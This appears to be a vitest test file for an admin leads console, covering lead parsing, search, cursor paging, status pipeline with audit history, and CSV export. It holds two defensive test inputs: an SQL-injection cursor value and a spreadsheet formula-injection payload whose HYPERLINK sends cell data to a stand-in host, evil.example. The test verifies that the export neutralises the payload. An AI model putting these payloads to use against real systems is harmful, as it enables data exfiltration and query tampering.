import { and, eq, sql } from 'drizzle-orm'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { beforeAll, describe, expect, it } from 'vitest'
import { accessRequests, auditLog, leads, mailOutbox } from '../../db/schema.ts'
import { chileDateTime, chileDayOf } from '../../lib/csv.ts'
import { call, createUserAndLogin, freshIp, uniqueEmail, useTestApp } from '../../testing/app.ts'
import { csvColumn, downloadCsv } from '../../testing/csv.ts'
import { insertLead, parseLeadContent } from './lead-record.ts'
import { submitLead } from './test-helpers.ts'

const ctx = useTestApp()
let admin: Awaited<ReturnType<typeof createUserAndLogin>>
beforeAll(async () => {
  admin = await createUserAndLogin(ctx.app, { role: 'platform_admin' })
})

const get = (url: string) => call(ctx.app, 'GET', url, { token: admin.token })
const patch = (id: string, body: unknown, ip?: string) =>
  call(ctx.app, 'PATCH', `/api/v1/admin/leads/${id}`, { token: admin.token, body, ip })

/** A lead stored straight in the database at a chosen time (the API stamps "now"). */
async function leadAt(createdAt: Date, name: string, city = 'Arica') {
  const email = uniqueEmail('old')
  const content = `Nombre: ${name}\nEmail: ${email}\nWhatsApp: 1\nCiudad: ${city}`
  const [row] = await ctx.app.db.insert(accessRequests).values({ title: 't', subject: 's', email, content, createdAt }).returning()
  await insertLead(ctx.app.db, { id: row!.id, email, content, createdAt })
  return row!.id
}

describe('a free-access request becomes a lead', () => {
  it('with name, phone and city parsed, status new, and the sales inbox still mailed', async () => {
    const { id, email } = await submitLead(ctx.app, { name: 'Camila Rojas', city: 'Valdivia', phone: '+56 9 5555 0000' })
    const res = await get(`/api/v1/admin/leads/${id}`)
    expect(res.statusCode).toBe(200)
    expect(res.json()).toMatchObject({
      id,
      name: 'Camila Rojas',
      email,
      phone: '+56 9 5555 0000',
      city: 'Valdivia',
      status: 'new',
      statusChangedAt: null,
      history: [],
    })
    const sales = await ctx.app.db.select().from(mailOutbox).where(eq(mailOutbox.to, ctx.config.SALES_EMAIL))
    expect(sales.some((m) => m.text.includes(email))).toBe(true)
  })

  it('a plain contact form (no Nombre/Ciudad lines) is a lead with null name and city', () => {
    expect(parseLeadContent('Hola, quiero info')).toEqual({ name: null, phone: null, city: null })
    expect(parseLeadContent('Nombre:  Ana \r\nCiudad: Puerto Montt\nWhatsApp:')).toEqual({ name: 'Ana', phone: null, city: 'Puerto Montt' })
  })

  it('the migration gives requests received before the console a lead parsed the same way', async () => {
    const content = 'Nombre: Antigua Pérez\nEmail: a@b.cl\nWhatsApp: +56 2 1111\nCiudad: Iquique'
    const [row] = await ctx.app.db
      .insert(accessRequests)
      .values({ title: 't', subject: 's', email: 'antigua@example.com', content })
      .returning()
    const migration = readFileSync(fileURLToPath(new URL('../../../drizzle/0004_admin_console.sql', import.meta.url)), 'utf8')
    const backfill = migration.slice(migration.lastIndexOf('INSERT INTO "leads"'))
    await ctx.app.db.execute(sql.raw(backfill))
    const [lead] = await ctx.app.db.select().from(leads).where(eq(leads.id, row!.id))
    expect(lead).toMatchObject({
      ...parseLeadContent(content),
      email: 'antigua@example.com',
      status: 'new',
      search: 'antigua pérez antigua@example.com iquique',
    })
  })
})

describe('GET /admin/leads', () => {
  it('searches name, e-mail and city (any case, any part), and takes % and _ literally', async () => {
    const a = await submitLead(ctx.app, { name: 'Ignacio Zúñiga', city: 'Coyhaique' })
    const b = await submitLead(ctx.app, { name: 'Beatriz Olmos', city: 'Punta Arenas', email: uniqueEmail('bolmos') })
    const ids = async (q: string) =>
      ((await get(`/api/v1/admin/leads?q=${encodeURIComponent(q)}&limit=100`)).json().data as { id: string }[]).map((l) => l.id)
    expect(await ids('zúñiga')).toEqual([a.id])
    expect(await ids('COYHAI')).toEqual([a.id])
    expect(await ids('bolmos-')).toEqual([b.id])
    expect(await ids('punta ar')).toEqual([b.id])
    expect(await ids('%')).toEqual([])
    expect(await ids('_')).toEqual([])
  })

  it('filters by status and date range (from inclusive, to exclusive) and rejects bad filters with field codes', async () => {
    const t0 = new Date('2025-01-10T12:00:00Z')
    const inRange = await leadAt(t0, 'Rango Uno')
    await leadAt(new Date('2025-01-11T12:00:00Z'), 'Rango Dos')
    const res = await get('/api/v1/admin/leads?from=2025-01-10T12:00:00Z&to=2025-01-11T12:00:00Z&status=new')
    expect(res.json().data.map((l: { id: string }) => l.id)).toEqual([inRange])
    expect((await get('/api/v1/admin/leads?from=2025-01-10&to=2025-01-11')).json().data.map((l: { id: string }) => l.id)).toEqual([inRange])
    expect((await get('/api/v1/admin/leads?status=contacted&from=2025-01-01&to=2025-02-01')).json().data).toEqual([])
    for (const [query, errors] of [
      ['status=won', { status: 'invalid' }],
      ['from=yesterday', { from: 'invalid' }],
      ['from=2025-02-01&to=2025-01-01', { to: 'invalid' }],
      ['limit=101', { limit: 'invalid' }],
      ['limit=0', { limit: 'invalid' }],
      ['sort=random', { sort: 'invalid' }],
      ['cursor=abc', { cursor: 'invalid' }],
      [`cursor=${Buffer.from("2025-01-01T00:00:00.000000Z|1' or 1=1").toString('base64url')}`, { cursor: 'invalid' }],
    ] as const) {
      const bad = await get(`/api/v1/admin/leads?${query}`)
      expect(bad.statusCode, query).toBe(422)
      expect(bad.json().errors, query).toEqual(errors)
    }
  })

  it('pages with a cursor newest or oldest first: every row once, ties broken by id, nothing skipped', async () => {
    const tie = new Date('2024-06-01T00:00:00Z')
    const made = [await leadAt(tie, 'Page A', 'Pagetown'), await leadAt(tie, 'Page B', 'Pagetown'), await leadAt(tie, 'Page C', 'Pagetown')]
    made.push(await leadAt(tie, 'Page D', 'Pagetown'), await leadAt(new Date('2024-05-01T00:00:00Z'), 'Page E', 'Pagetown'))
    // One microsecond after the ties: a cursor rounded to JavaScript milliseconds would lose or repeat rows.
    await ctx.app.db.execute(sql`update leads set created_at = created_at + interval '1 microsecond' where id = ${made[3]}`)
    for (const sort of ['newest', 'oldest'] as const) {
      const seen: { id: string; createdAt: string }[] = []
      let cursor: string | null = null
      do {
        const page: { data: { id: string; createdAt: string }[]; nextCursor: string | null } = (
          await get(`/api/v1/admin/leads?q=pagetown&limit=2&sort=${sort}${cursor ? `&cursor=${cursor}` : ''}`)
        ).json()
        expect(page.data.length).toBeLessThanOrEqual(2)
        seen.push(...page.data)
        cursor = page.nextCursor
      } while (cursor)
      expect(seen.map((l) => l.id).sort()).toEqual([...made].sort())
      // The microsecond-later lead sorts after the three ties (newest first: before them).
      const d = seen.findIndex((l) => l.id === made[3])
      expect(d).toBe(sort === 'newest' ? 0 : 4)
    }
  })
})

describe('PATCH /admin/leads/{id}: the pipeline', () => {
  it('new → contacted → activated with notes; each step is a history row (who, when, from, to, note); activated is final', async () => {
    const { id } = await submitLead(ctx.app, { name: 'Pipeline', city: 'Ovalle' })
    const ip = freshIp()
    const first = await patch(id, { status: 'contacted', note: 'Llamada, interesada' }, ip)
    expect(first.statusCode).toBe(200)
    expect(first.json()).toMatchObject({ status: 'contacted', statusChangedAt: expect.any(String) })
    expect((await patch(id, { note: 'Envió datos de su gimnasio' })).statusCode).toBe(200)
    expect((await patch(id, { status: 'activated' })).statusCode).toBe(200)
    const refused = await patch(id, { status: 'contacted', note: 'back' })
    expect(refused.statusCode).toBe(409)
    expect(refused.json().errors).toEqual({ status: 'invalid' })
    const detail = (await get(`/api/v1/admin/leads/${id}`)).json()
    expect(detail.status).toBe('activated')
    expect(detail.history).toMatchObject([
      { from: 'contacted', to: 'activated', note: null, actor: { id: admin.user.id, email: admin.user.email, role: 'platform_admin' } },
      { from: 'contacted', to: 'contacted', note: 'Envió datos de su gimnasio' },
      { from: 'new', to: 'contacted', note: 'Llamada, interesada' },
    ])
    const rows = await ctx.app.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.subjectType, 'lead'), eq(auditLog.subjectId, id)))
    expect(rows).toHaveLength(3)
    expect(rows.find((r) => r.action === 'lead.status' && r.reason === 'Llamada, interesada')).toMatchObject({
      ip,
      actorId: admin.user.id,
      before: { status: 'new' },
      after: { status: 'contacted' },
    })
  })

  it('refuses moves the pipeline does not have, bad bodies and unknown leads, changing nothing', async () => {
    const { id } = await submitLead(ctx.app, { name: 'Refusals', city: 'Arica' })
    expect((await patch(id, { status: 'activated' })).statusCode).toBe(409)
    for (const [body, errors] of [
      [{}, { status: 'nothingToChange' }],
      [{ status: 'won' }, { status: 'invalid' }],
      [{ note: '   ' }, { note: 'required' }],
      [{ note: 'x'.repeat(2001) }, { note: 'tooLong' }],
      [{ status: 'contacted', assignee: 'me' }, { assignee: 'unknownField' }],
    ] as const) {
      const res = await patch(id, body)
      expect(res.statusCode, JSON.stringify(body)).toBe(422)
      expect(res.json().errors).toEqual(errors)
    }
    expect((await patch('00000000-0000-4000-8000-000000000000', { status: 'contacted' })).statusCode).toBe(404)
    expect((await patch('not-a-uuid', { status: 'contacted' })).statusCode).toBe(422)
    const detail = (await get(`/api/v1/admin/leads/${id}`)).json()
    expect(detail).toMatchObject({ status: 'new', history: [] })
  })

  it('a discarded lead can be reopened; the same move twice at once is applied once', async () => {
    const { id } = await submitLead(ctx.app, { name: 'Twice', city: 'Arica' })
    expect((await patch(id, { status: 'discarded', note: 'spam?' })).statusCode).toBe(200)
    const both = await Promise.all([patch(id, { status: 'contacted' }), patch(id, { status: 'contacted' })])
    expect(both.map((r) => r.statusCode)).toEqual([200, 200])
    const detail = (await get(`/api/v1/admin/leads/${id}`)).json()
    expect(detail.history.map((h: { from: string; to: string }) => `${h.from}>${h.to}`)).toEqual(['discarded>contacted', 'new>discarded'])
  })
})

describe('GET /admin/leads/export.csv', () => {
  it('streams every matching lead across export pages, quoted, with formula cells neutralised', async () => {
    // 1,050 leads in one statement: more than one export page (1,000).
    await ctx.app.db.execute(sql`
      with r as (
        insert into access_requests (title, subject, email, content, created_at)
        select 't', 's', 'bulk' || i || '@example.com', 'Nombre: Bulk ' || i || E'\nCiudad: Bulkville', now() - i * interval '1 second'
        from generate_series(1, 1050) i returning id, email, content, created_at)
      insert into leads (id, name, email, city, status, search, created_at)
      select id, substring(content from 'Nombre: ([^\n]*)'), email, 'Bulkville', 'new', lower(substring(content from 'Nombre: ([^\n]*)') || ' ' || email || ' bulkville'), created_at from r`)
    const evil = await submitLead(ctx.app, { name: '=HYPERLINK("http://evil.example/?"&A1,"clic")', city: 'Bulkville', phone: '+56 9 1' })
    const file = await downloadCsv(ctx.app, '/api/v1/admin/leads/export.csv?q=bulkville', admin.token)
    // Dated on Chile's clock, headers and status in the operator's language (Spanish, decision 201).
    expect(file.filename).toBe(`solicitudes_${chileDayOf(new Date())}.csv`)
    expect(file.header).toEqual(['Recibida', 'Estado', 'Estado desde', 'Nombre', 'Correo', 'Teléfono', 'Ciudad', 'Asunto', 'Mensaje', 'ID'])
    expect(file.rows).toHaveLength(1051)
    expect(new Set(csvColumn(file, 'Estado'))).toEqual(new Set(['Nueva']))
    const evilRow = file.rows.find((r) => r.at(-1) === evil.id)!
    expect(evilRow[3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"clic")`)
    // A phone starting with + is also a formula to a spreadsheet.
    expect(evilRow[5]).toBe(`'+56 9 1`)
    const [stored] = await ctx.app.db.select().from(leads).where(eq(leads.id, evil.id))
    expect(evilRow[0]).toBe(chileDateTime(stored.createdAt))
    expect(evilRow[0]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-0[34]:00$/)
    // The newest first, like the list.
    expect(file.rows[0].at(-1)).toBe(evil.id)
    // An operator reading the console in English gets the English file.
    const en = await downloadCsv(ctx.app, '/api/v1/admin/leads/export.csv?q=bulkville&status=new', admin.token, 'en')
    expect(en.filename).toBe(`leads_${chileDayOf(new Date())}.csv`)
    expect(en.header.slice(0, 3)).toEqual(['Received', 'Status', 'Status since'])
    expect(new Set(csvColumn(en, 'Status'))).toEqual(new Set(['New']))
    const none = await get('/api/v1/admin/leads/export.csv?q=nothing-matches-this')
    expect(
      none.body
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\n'),
    ).toHaveLength(1)
    expect((await get('/api/v1/admin/leads/export.csv?status=won')).statusCode).toBe(422)
  })
})
